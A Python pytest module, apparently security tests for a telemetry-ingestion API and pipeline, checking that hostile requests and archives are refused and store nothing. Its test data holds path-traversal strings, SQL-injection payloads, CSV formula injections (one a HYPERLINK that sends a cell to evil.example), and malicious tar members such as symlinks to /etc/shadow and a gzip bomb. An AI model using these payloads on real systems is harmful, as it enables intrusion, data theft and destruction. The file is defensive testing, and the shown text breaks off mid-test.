"""Hostile input against the running API (`ganymede-api`, a subprocess) and the pipeline.

Every case here is a row of the table in docs/security.md (its id is the
parametrize id): what an attacker or a broken agent sends, and the answer it
must get. Each must get a clear error and store nothing: no transaction
moves, no file appears (except an invalid archive, which goes to quarantine/
with its reason, as the rule says), nothing reaches MySQL's schema or MongoDB,
and the API stays healthy.

One world and one API process serve the whole module, at the production
default limits of luigi.cfg's [api] section (only the idle and body timeouts
are short, so the slow-client cases take seconds, not an hour); every case
registers its own agents. "Nothing stored" compares content: a hash of every
file of the world, of every MySQL table's rows and of every MongoDB collection.
"""
import gzip
import hashlib
import http.client
import io
import json
import os
import re
import stat
import tarfile
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from types import SimpleNamespace

import pytest

import faultlib as F
from conftest import require_port
from ganymede import config, datasets, hours
from ganymede.paths import StateRoot
from ganymede.stores import mysql, txlog
from test_archive_limits import BOMBS, GZIP_CASES
from test_archives import HEADERS, csv_bytes, dataset_files, manifest_for, member, valid_rows, write_tar_gz

IDLE_TIMEOUT, BODY_TIMEOUT = 2, 4  # seconds; production's defaults are 75 and 3600 ([api] in luigi.cfg)
DEFAULTS = config.api()  # every size limit below is production's
MAX_ARCHIVE_MB, MAX_MEMBER_MB = DEFAULTS.max_archive_mb, DEFAULTS.max_member_mb
TABLES = {"agents", "admin_tokens", "schema_version", "transactions", "transaction_events", "quality_results",
          *(d.staging_table for d in datasets.CATALOG.values())}


@pytest.fixture(scope="module")
def h(tmp_path_factory):
    """The module's world: one API process, an admin token, the hour cases send for."""
    for port, what in ((3306, "MariaDB"), (27017, "MongoDB test server (nx-27017)"),
                       (int(F.S3_ENDPOINT.rsplit(":", 1)[1]), "S3 test server (moto)")):
        require_port("127.0.0.1", port, what)
    base = tmp_path_factory.mktemp("hostile")
    env = F.new_world(base, retcode=F.RETCODES, extract={"deadline_minutes": 0},
                      api={"idle_timeout": IDLE_TIMEOUT, "body_timeout": BODY_TIMEOUT})
    api = F.ApiProcess(env, base / "api.log").start()
    with F.sql(env, autocommit=False) as conn:
        admin = txlog.add_admin_token(conn, "security-tests")
    world = SimpleNamespace(env=env, api=api, port=api.port, base=str(base), admin=admin, agents=[],
                            root=StateRoot(env.root), hour=hours.last_complete_hour() - timedelta(hours=1),
                            pipeline_hours=iter(range(6, 200)))
    yield world
    api.stop()
    F.drop_world(env)


@pytest.fixture(autouse=True)
def api_stays_healthy(h):
    """After every case the API still answers; `h.log_mark` is where its log stood when the case began."""
    h.log_mark = len(h.api.log())
    yield
    assert F.healthz(h.port).status == 200


def new_agent(h, geo="test"):
    agent_id = f"h-{uuid.uuid4().hex[:10]}"
    token = F.register_agent(h.env, agent_id, geo)
    h.agents.append(agent_id)
    return SimpleNamespace(id=agent_id, token=token, headers=F.agent_headers(agent_id, token))


def hour_text(h):
    return hours.format_hour(h.hour)


def snapshot(h):
    return world_snapshot(h.env, h.base, skip=(os.path.relpath(h.api.log_path, h.base),))


def world_snapshot(env, base, skip=()):
    """Everything a request could have stored, by content: {relative path: sha256} of every file under
    `base` (the state root is inside) but `skip`, {table: sha256 of its rows in key order}, {collection:
    sha256 of its documents in _id order}."""
    files = {p: F.sha256_file(os.path.join(base, p)) for p in F.tree(base) if p not in skip}
    rows = {}
    with F.sql(env) as conn, conn.cursor() as cur:
        cur.execute("SHOW TABLES")
        for (table,) in sorted(cur.fetchall()):
            cur.execute(f"SELECT * FROM `{table}`")
            rows[table] = _digest(sorted(repr(r) for r in cur.fetchall()))
    db = F.mongo_db(env)
    docs = {name: _digest([repr(sorted(d.items())) for d in db[name].find().sort("_id", 1)])
            for name in sorted(db.list_collection_names())}
    return {"files": files, "rows": rows, "docs": docs}


def _digest(lines):
    return hashlib.sha256("\n".join(lines).encode()).hexdigest()


def assert_schema_intact(h):
    with F.sql(h.env) as conn, conn.cursor() as cur:
        cur.execute("SHOW TABLES")
        assert {r[0] for r in cur.fetchall()} == TABLES
        cur.execute("SELECT COUNT(*) FROM agents")
        assert cur.fetchone()[0] == len(h.agents)
        cur.execute("SELECT MAX(version) FROM schema_version")
        assert cur.fetchone()[0] == mysql.LATEST


def tx_state(h, transaction_id):
    with F.sql(h.env) as conn, conn.cursor() as cur:
        cur.execute("SELECT state FROM transactions WHERE transaction_id = %s", (transaction_id,))
        row = cur.fetchone()
    return row and row[0]


def create(h, agent, **fields):
    reply = F.create_transaction(h.port, agent.id, agent.token, hour_text(h), **fields)
    assert reply.status == 201, reply
    return reply.json["transaction_id"]


def assert_refused(h, reply, status, reason=None):
    """The answer, and no traceback in the API's log since the case began."""
    assert reply.status == status, reply
    assert reply.json is not None and reply.json["status"] == status and reply.json["error"], reply
    if reason:
        assert reason in reply.json["error"], reply
    assert_no_traceback(h)


def assert_no_traceback(h):
    logged = h.api.log()[h.log_mark:]
    assert "Traceback" not in logged, logged[-3000:]


# --- 1. requests: identity, traversal, SQL, replay --------------------------------------------

def _create(h, headers=None, body=None):
    """A create request of a fresh agent, with some of its headers (None: removed) or body fields replaced."""
    agent = new_agent(h)
    sent_headers = {k: v for k, v in dict(agent.headers, **(headers or {})).items() if v is not None}
    sent_body = dict({"agent_id": agent.id, "hour": hour_text(h)}, **(body or {}))
    return "POST", "/v1/transactions", json.dumps(sent_body), sent_headers


def _as_agent(h, method, path, body=None, **headers):
    """A request by a fresh agent, with extra headers."""
    return method, path, body, dict(new_agent(h).headers, **headers)


def _roster(h, token, hour=None):
    return "GET", f"/v1/hours/{hour or hour_text(h)}/roster", None, {"Authorization": f"Bearer {token}"}


WRONG, BAD_ID, BAD_TX, BAD_HOUR = ("unknown agent or wrong token", "malformed X-Agent-Id", "malformed transaction id",
                                   "not a UTC hour")
DROP = "'; DROP TABLE agents; --"

REQUEST_CASES = {
    # id: (build(h) -> (method, path, body, headers), status, reason in the error)
    "auth-no-token": (lambda h: _create(h, {"Authorization": None}), 401, "missing bearer token"),
    "auth-wrong-token": (lambda h: _create(h, {"Authorization": "Bearer " + "x" * 43}), 401, WRONG),
    "auth-no-agent-id": (lambda h: _create(h, {"X-Agent-Id": None}), 401, "missing X-Agent-Id"),
    "auth-other-agents-token": (lambda h: _create(h, {"Authorization": f"Bearer {new_agent(h).token}"}), 401, WRONG),
    "auth-admin-token-as-agent": (lambda h: _create(h, {"Authorization": f"Bearer {h.admin}"}), 401, WRONG),
    "auth-agent-token-on-roster": (lambda h: _roster(h, new_agent(h).token), 401, "not an admin token"),
    "auth-body-agent-is-another": (lambda h: _create(h, body={"agent_id": new_agent(h).id}), 403,
                                   "not the authenticated agent"),
    "auth-huge-token": (lambda h: _create(h, {"Authorization": "Bearer " + "t" * 20000}), 401, WRONG),
    "traversal-x-agent-id": (lambda h: _create(h, {"X-Agent-Id": "../../../etc/passwd"}), 400, BAD_ID),
    "traversal-x-agent-id-absolute": (lambda h: _create(h, {"X-Agent-Id": "/etc/passwd"}), 400, BAD_ID),
    "traversal-x-agent-id-backslash": (lambda h: _create(h, {"X-Agent-Id": "..\\..\\windows"}), 400, BAD_ID),
    "traversal-x-agent-id-dots": (lambda h: _create(h, {"X-Agent-Id": "a..b"}), 400, BAD_ID),
    "traversal-body-agent-id": (lambda h: _create(h, body={"agent_id": "../../x"}), 400, "malformed agent_id"),
    "traversal-hour": (lambda h: _create(h, body={"hour": "2026-11-30T05/../../../x"}), 400, BAD_HOUR),
    "traversal-transaction-id-encoded": (lambda h: _as_agent(
        h, "POST", "/v1/transactions/..%2F..%2F..%2Fetc%2Fpasswd/complete", b""), 400, BAD_TX),
    "traversal-transaction-id-raw": (lambda h: _as_agent(h, "GET", "/v1/transactions/../../etc/passwd"), 404,
                                     "no such endpoint"),
    "traversal-transaction-id-upload": (lambda h: _as_agent(
        h, "PUT", "/v1/transactions/..%2f..%2fupload%2fx/archive", b"x", **{"X-Archive-SHA256": "0" * 64}),
        400, BAD_TX),
    "traversal-roster-hour": (lambda h: _roster(h, h.admin, "..%2F..%2Fetc"), 400, BAD_HOUR),
    "sql-x-agent-id": (lambda h: _create(h, {"X-Agent-Id": "a' OR '1'='1"}), 400, BAD_ID),
    "sql-token": (lambda h: _create(h, {"Authorization": "Bearer ' OR '1'='1' -- "}), 401, WRONG),
    "sql-admin-token": (lambda h: _roster(h, "x' OR 1=1; DROP TABLE admin_tokens; --"), 401, "not an admin token"),
    "sql-body-agent-id": (lambda h: _create(h, body={"agent_id": "x" + DROP}), 400, "malformed agent_id"),
    "sql-hour": (lambda h: _create(h, body={"hour": "2026-11-30T05" + DROP}), 400, BAD_HOUR),
    "sql-replace": (lambda h: _create(h, body={"replace": "1; DROP TABLE transactions"}), 400,
                    "replace must be true or false"),
    "sql-transaction-id": (lambda h: _as_agent(h, "GET", "/v1/transactions/'%20OR%201=1%20--"), 400, BAD_TX),
    "sql-roster-hour": (lambda h: _roster(h, h.admin, "2026-11-30T05';DROP%20TABLE%20agents;--"), 400, BAD_HOUR),
    "utf8-invalid-x-agent-id": (lambda h: _create(h, {"X-Agent-Id": b"geo-\xff\xfe"}), 400, BAD_ID),
    "utf8-invalid-url": (lambda h: _as_agent(h, "GET", "/v1/transactions/%ff%fe"), 400, None),
    "utf8-invalid-json-body": (lambda h: _as_agent(h, "POST", "/v1/transactions", b'{"agent_id": "\xff\xfe"}'), 400,
                               "body is not JSON"),
    "bomb-json-body-nesting": (lambda h: _as_agent(h, "POST", "/v1/transactions", b"[" * 50000), 400,
                               "body is not JSON"),
    "json-body-over-limit": (lambda h: _as_agent(h, "POST", "/v1/transactions", b" " * (70 << 10) + b"{}"), 413,
                             "over the limit"),
}


@pytest.mark.timeout(30)
@pytest.mark.parametrize("case", sorted(REQUEST_CASES))
def test_hostile_request_is_refused_and_stores_nothing(h, case):
    build, status, reason = REQUEST_CASES[case]
    method, path, body, headers = build(h)  # registers the case's agents first
    before = snapshot(h)
    reply = F.call(h.port, method, path, body, headers)
    assert_refused(h, reply, status, reason)
    assert snapshot(h) == before
    assert_schema_intact(h)


@pytest.mark.timeout(30)
def test_revoked_agents_own_token_is_refused_and_stores_nothing(h):
    """auth-revoked-token"""
    agent = new_agent(h)
    with F.sql(h.env, autocommit=False) as conn:
        txlog.revoke_agent(conn, agent.id)
    before = snapshot(h)
    assert_refused(h, F.create_transaction(h.port, agent.id, agent.token, hour_text(h)), 403, "agent is revoked")
    assert snapshot(h) == before


@pytest.mark.timeout(30)
def test_unknown_json_fields_are_ignored_and_never_reach_sql(h):
    """sql-json-extra-field: extra keys are not an error, and nothing of them is stored."""
    agent = new_agent(h)
    evil = "x'); DROP TABLE transactions; --"
    reply = F.create_transaction(h.port, agent.id, agent.token, hour_text(h), **{evil: evil, "state": "completed"})
    assert reply.status == 201 and reply.json["state"] == "created"
    with F.sql(h.env) as conn, conn.cursor() as cur:
        cur.execute("SELECT COUNT(*) FROM transaction_events WHERE detail LIKE %s", ("%DROP TABLE%",))
        assert cur.fetchone()[0] == 0
    assert_schema_intact(h)
    assert_no_traceback(h)


REPLAY_CASES = ["replay-upload-to-anothers-transaction", "replay-complete-anothers-transaction",
                "replay-read-anothers-transaction", "replay-complete-anothers-completed-transaction"]


@pytest.mark.timeout(30)
@pytest.mark.parametrize("case", REPLAY_CASES)
def test_replaying_another_agents_transaction_id_is_404_and_changes_nothing(h, case):
    owner, thief = new_agent(h), new_agent(h)
    tx = create(h, owner)
    data = build_archive(h, owner.id, dataset_files(h.hour))
    assert F.upload(h.port, owner.id, owner.token, tx, data).status == 200
    if case.endswith("completed-transaction"):
        assert F.complete(h.port, owner.id, owner.token, tx).status == 200
    before, state = snapshot(h), tx_state(h, tx)
    if case == "replay-upload-to-anothers-transaction":
        reply = F.upload(h.port, thief.id, thief.token, tx, build_archive(h, thief.id, dataset_files(h.hour)))
    elif case == "replay-read-anothers-transaction":
        reply = F.call(h.port, "GET", f"/v1/transactions/{tx}", None, thief.headers)
    else:
        reply = F.complete(h.port, thief.id, thief.token, tx)
    assert_refused(h, reply, 404, "no such transaction")
    assert reply.json == {"error": "no such transaction", "status": 404}  # never says whose it is
    assert snapshot(h) == before and tx_state(h, tx) == state


# --- 2. uploads: lengths, checksums, sizes, headers, slow clients ---------------------------------

def build_archive(h, agent_id, files, manifest=None, members=None, hour=None):
    """Bytes of an archive: valid unless told otherwise (`members` replaces the whole member list)."""
    path = os.path.join(h.base, f"build-{uuid.uuid4().hex}.tar.gz")
    manifest = manifest or manifest_for(agent_id, hour or h.hour, files)
    if members is None:
        members = [member("manifest.json", json.dumps(manifest).encode())]
        members += [member(name + ".csv", data) for name, data in files.items()]
    write_tar_gz(path, members)
    with open(path, "rb") as f:
        data = f.read()
    os.unlink(path)
    return data


@pytest.mark.timeout(30)
def test_upload_whose_bytes_do_not_match_their_sha256_is_refused(h):
    """upload-sha256-mismatch"""
    agent = new_agent(h)
    tx = create(h, agent)
    before = snapshot(h)
    data = build_archive(h, agent.id, dataset_files(h.hour))
    reply = F.upload(h.port, agent.id, agent.token, tx, data, sha256=hashlib.sha256(b"other").hexdigest())
    assert_refused(h, reply, 422, "does not match X-Archive-SHA256")
    assert snapshot(h) == before and tx_state(h, tx) == "created"


@pytest.mark.timeout(30)
def test_upload_without_content_length_is_refused(h):
    """upload-chunked-no-length"""
    agent = new_agent(h)
    tx = create(h, agent)
    before = snapshot(h)
    exchange = F.RawExchange(h.port)
    exchange.send((f"PUT /v1/transactions/{tx}/archive HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {agent.token}\r\n"
                   f"X-Agent-Id: {agent.id}\r\nX-Archive-SHA256: {'0' * 64}\r\nTransfer-Encoding: chunked\r\n\r\n"
                   "5\r\nhello\r\n0\r\n\r\n").encode())
    status, body = exchange.reply()
    exchange.close()
    assert status == 411 and "Content-Length is required" in body["error"]
    assert snapshot(h) == before and tx_state(h, tx) == "created"
    assert_no_traceback(h)


@pytest.mark.timeout(30)
def test_upload_over_the_size_limit_is_refused_before_it_is_read(h):
    """upload-over-limit"""
    agent = new_agent(h)
    tx = create(h, agent)
    before = snapshot(h)
    exchange = F.RawExchange(h.port)
    exchange.send(F.upload_head(tx, agent.id, agent.token, (MAX_ARCHIVE_MB << 20) + 1, "0" * 64))
    status, body = exchange.reply(timeout=10)
    exchange.close()
    assert status == 413 and "over the limit" in body["error"]
    assert snapshot(h) == before and tx_state(h, tx) == "created"
    assert_no_traceback(h)


@pytest.mark.timeout(30)
def test_huge_request_header_is_refused_and_the_api_carries_on(h):
    """huge-header: 256 KB of headers (Tornado's limit is 64 KB)."""
    before = snapshot(h)
    exchange = F.RawExchange(h.port)
    exchange.send(b"POST /v1/transactions HTTP/1.1\r\nHost: x\r\nX-Padding: " + b"a" * (256 << 10) + b"\r\n\r\n")
    status, _ = exchange.reply(timeout=10)
    closed = exchange.closed.wait(10)
    exchange.close()
    assert status in (None, 400, 431) and closed, status  # cut off, never a 5xx
    assert snapshot(h) == before
    assert_no_traceback(h)


def _closed_after(exchange, limit):
    started = time.monotonic()
    assert exchange.closed.wait(limit), f"connection still open after {limit} s"
    return time.monotonic() - started


@pytest.mark.timeout(30)
def test_slow_client_stalling_in_its_headers_is_cut_off_after_the_idle_timeout(h):
    """slow-headers (slowloris): [api] idle_timeout bounds the wait for a request's headers."""
    exchange = F.RawExchange(h.port)
    exchange.send(b"POST /v1/transactions HTTP/1.1\r\nHost: x\r\nX-Agent-Id: ")
    waited = _closed_after(exchange, IDLE_TIMEOUT + 5)
    exchange.close()
    assert waited >= IDLE_TIMEOUT - 0.5
    assert_no_traceback(h)


@pytest.mark.timeout(30)
def test_idle_keep_alive_connection_is_closed_after_the_idle_timeout(h):
    """slow-idle-keepalive"""
    exchange = F.RawExchange(h.port)
    exchange.send(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
    assert exchange.reply()[0] == 200
    waited = _closed_after(exchange, IDLE_TIMEOUT + 5)
    exchange.close()
    assert waited >= IDLE_TIMEOUT - 1
    assert_no_traceback(h)


@pytest.mark.timeout(30)
def test_slow_upload_is_cut_off_after_the_body_timeout_and_leaves_nothing(h):
    """slow-body: [api] body_timeout bounds an upload; the partial temp file is removed."""
    agent = new_agent(h)
    tx = create(h, agent)
    before = snapshot(h)
    exchange = F.RawExchange(h.port)
    exchange.send(F.upload_head(tx, agent.id, agent.token, 1 << 20, "0" * 64))
    exchange.send(os.urandom(700 << 10))  # more than one write batch reaches the disk
    waited = _closed_after(exchange, BODY_TIMEOUT + 5)
    exchange.close()
    assert waited >= BODY_TIMEOUT - 1.5
    time.sleep(0.3)
    assert snapshot(h) == before and tx_state(h, tx) == "created"
    assert_no_traceback(h)


# --- 3. archives: tar members, bombs, manifests, CSV content -------------------------------------------

def _bad_row(hour, dataset, column, value):
    rows = valid_rows(hour)
    rows[dataset][1][HEADERS[dataset].index(column)] = value
    return dataset_files(hour, rows=rows)


def _with_file(hour, name, data):
    files = dataset_files(hour)
    files[name] = data
    return files


def _extra(name, **kw):
    return lambda h, a: build_archive(h, a, dataset_files(h.hour), members=_valid_members(h, a) + [member(name, **kw)])


def _valid_members(h, agent_id, files=None, manifest=None):
    files = files or dataset_files(h.hour)
    manifest = manifest or manifest_for(agent_id, h.hour, files)
    return [member("manifest.json", json.dumps(manifest).encode())] + [
        member(name + ".csv", data) for name, data in files.items()]


def _pax_path_override(h, agent_id):
    """A member whose pax header renames it to '../../evil.csv' after the ustar name was checked."""
    members = _valid_members(h, agent_id)
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb", mtime=0) as gz, \
            tarfile.open(fileobj=gz, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data))
        evil = tarfile.TarInfo("innocent.csv")
        evil.size, evil.pax_headers = 3, {"path": "../../evil.csv"}
        tar.addfile(evil, io.BytesIO(b"x\n\n"))
    return buf.getvalue()


def _gzip_bomb(h, agent_id):
    """A member declaring one byte over [api] max_member_mb of zeros, its first MB following (a real one
    would inflate from a few MB): refused from the header, before anything is inflated."""
    files = dataset_files(h.hour)
    manifest = json.dumps(manifest_for(agent_id, h.hour, files)).encode()
    bomb = tarfile.TarInfo("account_usage.csv")
    bomb.size = (MAX_MEMBER_MB << 20) + 1
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb", mtime=0) as gz:
        with tarfile.open(fileobj=gz, mode="w", format=tarfile.GNU_FORMAT) as tar:
            tar.addfile(*_as_file(member("manifest.json", manifest)))
            gz.write(bomb.tobuf(tarfile.GNU_FORMAT) + bytes(1 << 20))
    return buf.getvalue()


def _as_file(pair):
    return pair[0], io.BytesIO(pair[1])


def _nested_manifest(h, agent_id):
    """A manifest of 200 KB of '[': valid size, but nested far deeper than any JSON parser recurses."""
    return build_archive(h, agent_id, {}, members=[member("manifest.json", b"[" * (200 << 10))])


def _manifest_with(h, agent_id, edit, files=None):
    files = files or dataset_files(h.hour)
    manifest = manifest_for(agent_id, h.hour, files)
    edit(manifest)
    return build_archive(h, agent_id, files, manifest=manifest)


def _many_members(h, agent_id):
    return build_archive(h, agent_id, {}, members=_valid_members(h, agent_id) + [
        member(f"x{i}.csv", b"a\n") for i in range(70)])


def _bad(dataset, column, value):
    """An archive whose second row of `dataset` has `value` in `column`."""
    return lambda h, agent_id: build_archive(h, agent_id, _bad_row(h.hour, dataset, column, value))


def _csv_row(hour, dataset, *values):
    rows = valid_rows(hour)
    return _with_file(hour, dataset, csv_bytes(HEADERS[dataset], rows[dataset]) + ",".join(values).encode() + b"\n")


ARCHIVE_CASES = {
    # id: (build(h, agent_id) -> archive bytes, reason in the 422)
    "tar-dotdot-member": (_extra("../../evil.csv", data=b"x"), "member path must be a plain file name"),
    "tar-absolute-member": (_extra("/etc/cron.d/evil", data=b"x"), "member path must be a plain file name"),
    "tar-nested-member": (_extra("sub/evil.csv", data=b"x"), "member path must be a plain file name"),
    "tar-backslash-member": (_extra("..\\..\\evil.csv", data=b"x"), "member path must be a plain file name"),
    "tar-dotdot-alone": (_extra("..", data=b"x"), "member path must be a plain file name"),
    "tar-pax-path-override": (_pax_path_override, "pax extended header (type 'x') refused"),
    "tar-gnu-longname": (_extra("a" * 300 + ".csv", data=b"x"), "GNU long name header (type 'L') refused"),
    "tar-symlink": (_extra("evil.csv", kind=tarfile.SYMTYPE, linkname="/etc/passwd"), "not a regular file"),
    "tar-hardlink": (_extra("evil.csv", kind=tarfile.LNKTYPE, linkname="/etc/shadow"), "not a regular file"),
    "tar-char-device": (_extra("null.csv", kind=tarfile.CHRTYPE), "not a regular file"),
    "tar-block-device": (_extra("sda.csv", kind=tarfile.BLKTYPE), "not a regular file"),
    "tar-fifo": (_extra("pipe.csv", kind=tarfile.FIFOTYPE), "not a regular file"),
    "tar-directory": (_extra("dir", kind=tarfile.DIRTYPE), "not a regular file"),
    "tar-symlink-named-as-dataset": (lambda h, a: build_archive(h, a, {}, members=[
        _valid_members(h, a)[0], member("account_usage.csv", kind=tarfile.SYMTYPE, linkname="/etc/passwd")]),
        "not a regular file"),
    "tar-too-many-members": (_many_members, "not announced in the manifest"),
    "tar-duplicate-member": (_extra("node_health.csv", data=b"node_id\n"), "appears twice"),
    "bomb-gzip": (_gzip_bomb, "larger than the configured limit"),
    "bomb-manifest-nesting": (_nested_manifest, "manifest is not JSON"),
    "manifest-too-large": (lambda h, a: build_archive(h, a, {}, members=[
        member("manifest.json", json.dumps({"pad": " " * (1 << 20)}).encode())]), "manifest larger than the configured limit"),
    "manifest-row-count": (lambda h, a: _manifest_with(h, a, lambda m: m["datasets"]["api_requests"].update(rows=2)),
                           "3 rows, manifest says 2"),
    "manifest-sha256": (lambda h, a: _manifest_with(h, a, lambda m: m["datasets"]["node_health"].update(
        sha256="0" * 64)), "sha256 does not match the manifest"),
    "manifest-bytes": (lambda h, a: _manifest_with(h, a, lambda m: m["datasets"]["account_usage"].update(
        bytes=m["datasets"]["account_usage"]["bytes"] - 1)), "size"),
    "manifest-member-missing": (lambda h, a: build_archive(h, a, {}, members=_valid_members(h, a)[:-1]),
                                "in the manifest but not in the archive"),
    "manifest-other-agent": (lambda h, a: _manifest_with(h, a, lambda m: m.update(agent_id="geo-victim")),
                             "is not the transaction's agent"),
    "manifest-other-hour": (lambda h, a: _manifest_with(h, a, lambda m: m.update(
        hour=hours.format_hour(h.hour - timedelta(hours=1)))), "is not the transaction's hour"),
    "sql-manifest-dataset-name": (lambda h, a: _manifest_with(h, a, lambda m: m["datasets"].update({
        "x'; DROP TABLE agents; --": {"file": "x.csv", "rows": 0, "bytes": 0, "sha256": "0" * 64}})),
        "invalid dataset entry"),
    "sql-csv-string-value": (_bad("account_usage", "account_id", "acct'); DROP TABLE agents; --"),
                             "not a plain identifier"),
    "sql-csv-numeric-value": (_bad("api_requests", "count", "1; DELETE FROM transactions"), "longer than 20 characters"),
    "formula-equals": (_bad("account_usage", "account_id", "=cmd|' /C calc'!A0"), "not a plain identifier"),
    "formula-plus": (_bad("api_requests", "endpoint", "+cmd|' /C calc'!A0"), "not a plain identifier"),
    "formula-minus": (_bad("node_health", "node_id", "-2+3+cmd|' /C x'!A0"), "not a plain identifier"),
    "formula-at": (_bad("api_requests", "method", "@SUM(1+1)*cmd"), "not a plain identifier"),
    "formula-tab-prefixed": (_bad("account_usage", "account_id", "\t=1+1"), "not a plain identifier"),
    "oversize-csv-line": (lambda h, a: build_archive(h, a, _csv_row(h.hour, "account_usage", "a" * (70 << 10),
                                                                    "1", "1", "1", "1", "1")), "a line longer than"),
    "utf8-invalid-csv": (lambda h, a: build_archive(h, a, _with_file(
        h.hour, "account_usage", csv_bytes(HEADERS["account_usage"], []) + b"acct-\xff\xfe,1,1,1,1,1\n")),
        "invalid UTF-8"),
    "utf8-overlong-csv": (lambda h, a: build_archive(h, a, _with_file(
        h.hour, "api_requests",
        csv_bytes(HEADERS["api_requests"], []) + b"GET,/v1\xc0\xaf..\xc0\xafetc,200,1,1,1,1\n")), "invalid UTF-8"),
    "utf8-invalid-manifest": (lambda h, a: build_archive(h, a, {}, members=[
        member("manifest.json", b'{"format": 1, "agent_id": "\xff\xfe"}')]), "manifest is not JSON"),
    "nul-in-csv": (lambda h, a: build_archive(h, a, _with_file(
        h.hour, "account_usage", csv_bytes(HEADERS["account_usage"], []) + b"acct\x00x,1,1,1,1,1\n")),
        "not a plain identifier"),
    "not-an-archive": (lambda h, a: b"GIF89a" + os.urandom(2000), "not a gzip'd tar archive"),
}


@pytest.mark.timeout(60)
@pytest.mark.parametrize("case", sorted(ARCHIVE_CASES))
def test_hostile_archive_is_refused_quarantined_and_loads_nothing(h, case):
    build, reason = ARCHIVE_CASES[case]
    agent = new_agent(h)
    tx = create(h, agent)
    data = build(h, agent.id)
    assert len(data) < MAX_ARCHIVE_MB << 20
    before = snapshot(h)
    uploaded = F.upload(h.port, agent.id, agent.token, tx, data)
    assert uploaded.status == 200, uploaded  # the bytes are only checked when the agent asks to complete
    reply = F.complete(h.port, agent.id, agent.token, tx)
    assert_refused(h, reply, 422, reason)
    assert reply.json["state"] == "failed"
    held = h.root.quarantine(h.hour, agent.id, tx)
    after = snapshot(h)
    added = {os.path.relpath(p, h.base) for p in (held, held[: -len(".tar.gz")] + ".reason.json")}
    assert set(after["files"]) - set(before["files"]) == added, "only the archive and its reason, in quarantine/"
    assert {p: d for p, d in after["files"].items() if p not in added} == before["files"]
    assert after["docs"] == before["docs"]
    assert {t: d for t, d in after["rows"].items() if not t.startswith("transaction")} == \
        {t: d for t, d in before["rows"].items() if not t.startswith("transaction")}, "nothing staged"
    with open(held, "rb") as f:
        assert f.read() == data
    assert json.load(open(held[: -len(".tar.gz")] + ".reason.json"))["reason"] == reply.json["error"]
    assert tx_state(h, tx) == "failed"
    assert [p for p in F.tree(os.path.join(h.env.root, "incoming")) if tx in p] == []
    assert_schema_intact(h)


# --- 4. through the pipeline: what reaches MongoDB and the extract --------------------------------

def _pipeline_hour(h):
    return hours.last_complete_hour() - timedelta(hours=next(h.pipeline_hours))


def send_and_run_pipeline(h, agent, hour, data):
    """Create, upload, complete for `hour`; if the API accepts, run the hour's graph. (reply, extract lines)."""
    reply = F.create_transaction(h.port, agent.id, agent.token, hours.format_hour(hour))
    tx = reply.json["transaction_id"]
    assert F.upload(h.port, agent.id, agent.token, tx, data).status == 200
    reply = F.complete(h.port, agent.id, agent.token, tx)
    lines = []
    if reply.status == 200:
        run = F.run(F.luigi_command(hours.format_hour(hour)), h.env.subprocess_env)
        assert run.returncode == 0, run.stderr[-3000:]
        lines = F.gunzip_text(h.root.extract(hour)).splitlines()
    return tx, reply, lines


GEO_CASES = {
    "formula-manifest-geo": "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")",
    "sql-manifest-geo": "eu'); DROP TABLE agents; --",
}


@pytest.mark.timeout(90)
@pytest.mark.parametrize("case", sorted(GEO_CASES))
def test_manifest_geo_is_checked_before_it_reaches_the_extract(h, case):
    """The manifest's `geo` is written into every document and every extract line: it must be
    refused like any other identifier (or replaced by the geo the agent was registered with)."""
    value = GEO_CASES[case]
    agent = new_agent(h)
    hour = _pipeline_hour(h)
    files = dataset_files(hour)
    data = build_archive(h, agent.id, files, manifest=manifest_for(agent.id, hour, files, geo=value))
    tx, reply, lines = send_and_run_pipeline(h, agent, hour, data)
    reached = [line for line in lines if value in json.loads(line).get("geo", "")]
    docs = sum(F.mongo_db(h.env)[n].count_documents({"geo": value}) for n in datasets.CATALOG)
    assert reply.status == 422 and not reached and docs == 0, (
        f"the API answered {reply.status}; the geo {value!r} reached {docs} MongoDB documents and "
        f"{len(reached)} extract lines, e.g. {reached[:1]}")
    assert_schema_intact(h)
    assert_no_traceback(h)


@pytest.mark.timeout(90)
def test_crlf_line_ends_are_refused_or_loaded_in_full(h):
    """crlf-line-endings: an archive the API counts N rows in must load N rows, not N rejects."""
    agent = new_agent(h)
    hour = _pipeline_hour(h)
    files = {name: data.replace(b"\n", b"\r\n") for name, data in dataset_files(hour).items()}
    data = build_archive(h, agent.id, files, hour=hour)
    tx, reply, lines = send_and_run_pipeline(h, agent, hour, data)
    if reply.status == 422:
        return
    counted = sum(reply.json["rows"].values())
    loaded = json.load(open(h.root.transaction_marker(hour, agent.id, tx, "loaded")))["counts"]
    assert reply.status == 200 and len(lines) == counted, (
        f"the API accepted {counted} rows ({reply.json['rows']}); the extract holds {len(lines)}; "
        f"the load says {loaded}")
    assert_no_traceback(h)


# --- 5. the pipeline's S3 credentials ---------------------------------------------------------------

def _fifo(path):
    os.unlink(path)
    os.mkfifo(path, 0o600)


def _symlink_to_readable(path):
    target = path + ".shared"
    os.replace(path, target)
    os.chmod(target, 0o644)
    os.symlink(target, path)


S3CURL_CASES = {
    "s3curl-world-readable": (lambda p: os.chmod(p, 0o644), "run chmod 600"),
    "s3curl-group-readable": (lambda p: os.chmod(p, 0o640), "run chmod 600"),
    "s3curl-symlink-to-readable": (_symlink_to_readable, "run chmod 600"),
    "s3curl-fifo": (_fifo, "is not a regular file"),
}


@pytest.mark.timeout(90)
@pytest.mark.parametrize("case", sorted(S3CURL_CASES))
def test_s3curl_others_can_read_is_refused_and_nothing_is_uploaded(h, case):
    spoil, message = S3CURL_CASES[case]
    agent = new_agent(h)
    hour = _pipeline_hour(h)
    tx = F.create_transaction(h.port, agent.id, agent.token, hours.format_hour(hour)).json["transaction_id"]
    data = build_archive(h, agent.id, dataset_files(hour), hour=hour)
    assert F.upload(h.port, agent.id, agent.token, tx, data).status == 200
    assert F.complete(h.port, agent.id, agent.token, tx).status == 200
    path = h.env.s3curl_path
    original = open(path).read()
    spoil(path)
    try:
        run = F.run(F.luigi_command(hours.format_hour(hour)), h.env.subprocess_env, timeout=60)
    finally:
        for leftover in (path, path + ".shared"):
            if os.path.lexists(leftover):
                os.unlink(leftover)
